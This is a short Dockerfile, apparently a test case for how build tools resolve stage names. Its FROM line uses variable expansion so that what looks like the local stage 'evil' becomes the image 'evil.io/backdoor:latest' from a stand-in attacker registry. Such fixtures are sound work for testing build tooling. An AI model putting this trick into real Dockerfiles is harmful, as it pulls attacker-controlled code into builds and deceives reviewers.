ARG X=1
FROM gcr.io/distroless/static@sha256:e14e87345b4d5964ddcc3491d27ee046a0f23820f340c3c1e24da6880141f7c0 AS evil
FROM evil${X:+.io/backdoor:latest}
USER 10001
